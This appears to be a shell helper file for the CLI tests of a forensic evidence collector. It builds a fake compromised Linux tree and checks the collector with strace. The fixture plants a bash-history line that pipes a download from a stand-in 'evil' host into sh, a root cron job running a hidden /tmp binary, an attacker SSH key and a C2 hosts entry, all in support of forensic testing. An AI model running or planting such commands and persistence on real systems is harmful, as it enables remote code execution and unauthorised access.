# Copyright 2026 csirt-collect developers
# SPDX-License-Identifier: Apache-2.0
#
# Shared helpers for the CLI tests (sourced by tests/cli/t-*.sh).
# Each test works in its own temporary directory, removed on exit, and
# reports each case with ok/nok, which print "PASS …" or "FAIL …".
set -u
CC_BIN=${CC_BIN:-$(cd "$(dirname "$0")/../.." && pwd)/build/csirt-collect}
CC_TOP=${CC_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
SHARED=${SHARED:-$CC_TOP/../shared}
T=$(mktemp -d "${TMPDIR:-/tmp}/cc-cli.XXXXXX")
TNAME=$(basename "$0" .sh)
cleanup_hooks=""
at_exit() { cleanup_hooks="$1; $cleanup_hooks"; }
trap 'eval "$cleanup_hooks"; rm -rf "$T"' EXIT
trap 'exit 130' INT TERM

ok()  { echo "PASS $TNAME: $*"; }
nok() { echo "FAIL $TNAME: $*"; }
# check DESC CMD...: PASS when CMD succeeds.
check() { d=$1; shift; if "$@"; then ok "$d"; else nok "$d"; fi; }
# check_rc DESC RC CMD...: PASS when CMD exits with RC exactly.
check_rc() {
	d=$1; want=$2; shift 2
	"$@" >"$T/.out" 2>"$T/.err"; got=$?
	if [ "$got" -eq "$want" ]; then ok "$d"; else
		nok "$d: exit $got, wanted $want"; sed 's/^/    /' "$T/.err" | head -5
	fi
}
# stderr of the last check_rc contains a string
last_err_has() { grep -qF -- "$1" "$T/.err"; }

# make_fixture DIR: a small dead-box tree with known content and times.
make_fixture() {
	f=$1
	mkdir -p "$f/etc/ssh" "$f/etc/cron.d" "$f/var/log" "$f/root/.ssh" \
		"$f/home/alice" "$f/tmp"
	printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n' >"$f/etc/passwd"
	printf 'root:x:0:\nalice:x:1000:\n' >"$f/etc/group"
	printf 'fixture-host\n' >"$f/etc/hostname"
	printf '127.0.0.1 localhost\n10.0.0.5 c2.example\n' >"$f/etc/hosts"
	printf 'PRETTY_NAME="Fixture Linux 1"\nID=fixture\n' >"$f/etc/os-release"
	printf '* * * * * root /tmp/.x/run\n' >"$f/etc/cron.d/evil"
	printf 'PermitRootLogin yes\n' >"$f/etc/ssh/sshd_config"
	head -c 300000 /dev/urandom | base64 >"$f/var/log/auth.log"
	printf 'Nov 22 10:00:00 fixture-host kernel: boot\n' >"$f/var/log/syslog"
	printf 'ssh-ed25519 AAAAC3Nza attacker@evil\n' >"$f/root/.ssh/authorized_keys"
	printf 'curl http://evil/x | sh\n' >"$f/root/.bash_history"
	printf 'ls\n' >"$f/home/alice/.bash_history"
	touch -m -d '2024-03-01 12:34:56 UTC' "$f/var/log/auth.log"
	touch -m -d '2023-01-02 03:04:05 UTC' "$f/etc/hosts"
	touch -a -d '2020-01-01 00:00:00 UTC' "$f/etc/hosts" "$f/var/log/auth.log"
}

# run_ok OUT ARGS...: run the agent, output in OUT; PASS/FAIL on exit 0.
archive_in() { ls "$1"/*.tar.zst 2>/dev/null | head -n 1; }
# jqe ARGS: jq -e, quiet. jq 1.6 exits 0 when its input is empty (no
# result at all): that is a failure here, or a check on a missing file
# would pass.
jqe() { _jqe=$(jq -e "$@" 2>/dev/null) && [ -n "$_jqe" ]; }

# ForensicArtifacts definitions: ../shared's copy, else Debian's
# forensic-artifacts package (make deps); empty when neither is there.
FA_DIR=""
if [ -f "$SHARED/forensic-artifacts/linux.yaml" ]; then FA_DIR=$SHARED/forensic-artifacts
elif [ -f /usr/share/artifacts/linux.yaml ]; then FA_DIR=/usr/share/artifacts; fi
# skip WHAT: say a case cannot run here (counted as SKIP, never PASS).
skip() { echo "SKIP $TNAME: $*"; }
# flip_byte FILE OFFSET: change the byte at OFFSET (XOR 1), so a mutation
# test never runs on an unchanged file; FAIL if the file did not change.
flip_byte() {
	cp "$1" "$T/.flip.orig"
	fb=$(od -An -tu1 -j "$2" -N1 "$1" | tr -d ' ')
	printf "\\$(printf %03o $(( (fb ^ 1) & 255 )))" |
		dd of="$1" bs=1 seek="$2" conv=notrunc 2>/dev/null
	cmp -s "$1" "$T/.flip.orig" && nok "flip_byte: $1 unchanged at $2"
	rm -f "$T/.flip.orig"
	return 0
}
# check_lintian DEB: lintian --pedantic reports no tag (SKIP without it).
check_lintian() {
	if ! command -v lintian >/dev/null; then skip "lintian not installed"; return; fi
	lintian --pedantic "$1" >"$T/.lintian" 2>&1
	if grep -qE '^[EWIPX]: ' "$T/.lintian"; then
		nok "lintian --pedantic reports tags"; sed 's/^/    /' "$T/.lintian"
	else ok "lintian --pedantic: clean (overrides are justified in packaging/deb/lintian-overrides)"; fi
}

# The environment of an agent run under strace: LeakSanitizer (check-asan)
# stops threads with ptrace at exit, which it cannot do under a tracer.
NOLEAK_ENV="ASAN_OPTIONS=${ASAN_OPTIONS:-}${ASAN_OPTIONS:+:}detect_leaks=0"
# root_run OUT ROOT [ARGS...]: the agent on the fixture ROOT (--root,
# --no-yara), under strace -e execve when ptrace works, extracted into
# OUT/x. Returns the agent's exit code; NEXECVE is the execve count seen
# ("" when not traced: the caller says SKIP).
root_run() {
	_o=$1 _r=$2; shift 2
	mkdir -p "$_o/x"
	_tr=""
	if command -v strace >/dev/null && strace -f -o /dev/null true 2>/dev/null; then
		_tr="env $NOLEAK_ENV strace -f -qq -e trace=execve -o $_o/trace"
	fi
	# shellcheck disable=SC2086
	timeout 60 $_tr "$CC_BIN" run --root "$_r" --output "$_o" --no-yara \
	    --quiet "$@" >"$_o/stdout" 2>"$_o/stderr"
	_rc=$?
	zstd -dc "$_o"/*.tar.zst 2>/dev/null | tar -x -C "$_o/x" 2>/dev/null
	NEXECVE=""
	[ -n "$_tr" ] && NEXECVE=$(grep -c 'execve(' "$_o/trace")
	return $_rc
}
# check_nexecve: after root_run, the agent ran no program (its own execve
# only); SKIP when it was not traced.
check_nexecve() {
	if [ -n "$NEXECVE" ]; then
		check "under strace, no program run (1 execve: itself; saw $NEXECVE)" \
		    test "$NEXECVE" -eq 1
	else
		skip "ptrace not allowed: the execve count was not checked"
	fi
}
# Fixture roots: R is the test's root tree (set by the test).
# mk PATH [CONTENT]: a file under $R, parents made.
mk() {
	mkdir -p "$(dirname "$R$1")"
	printf '%s\n' "${2:-content of $1}" >"$R$1"
}
# run_root OUTDIR [options]: collect $R (--no-yara, --quiet), extract the
# archive into OUTDIR/x; returns the agent's exit status.
run_root() {
	_out=$1; shift
	mkdir -p "$_out/x"
	timeout 120 "$CC_BIN" run --root "$R" --output "$_out" --no-yara \
	    --quiet "$@" >"$_out/stdout" 2>"$_out/stderr"
	_rc=$?
	tar --zstd -xf "$_out"/*.tar.zst -C "$_out/x" 2>/dev/null
	return $_rc
}

# killed_part WHAT DIR CMD...: CMD (a report or export writing into the
# empty folder DIR) is held in its fsync (strace's delay injection) with
# its .part file there, then sent SIGTERM: it must die of it and leave
# DIR empty. SKIP without strace or ptrace.
killed_part() {
	_what=$1 _dir=$2; shift 2
	if ! command -v strace >/dev/null || ! strace -f -o /dev/null true 2>/dev/null; then
		skip "$_what: no strace (or no ptrace): the interrupted write was not checked"
		return
	fi
	strace -f -qq -o /dev/null -e trace=fsync -e inject=fsync:delay_enter=5000000 \
		"$@" >/dev/null 2>&1 &
	_sp=$!
	for _i in $(seq 300); do
		ls -A "$_dir" | grep -q 'part$' && break
		sleep 0.1
	done
	check "$_what: its .part file is there while it writes" \
		sh -c "ls -A '$_dir' | grep -q 'part\$'"
	_cp=$(pgrep -P "$_sp" | head -1)
	[ -n "$_cp" ] && kill -TERM "$_cp"
	wait "$_sp"
	check "$_what: killed (SIGTERM) before the rename, it leaves nothing in the folder" \
		test -z "$(ls -A "$_dir")"
}
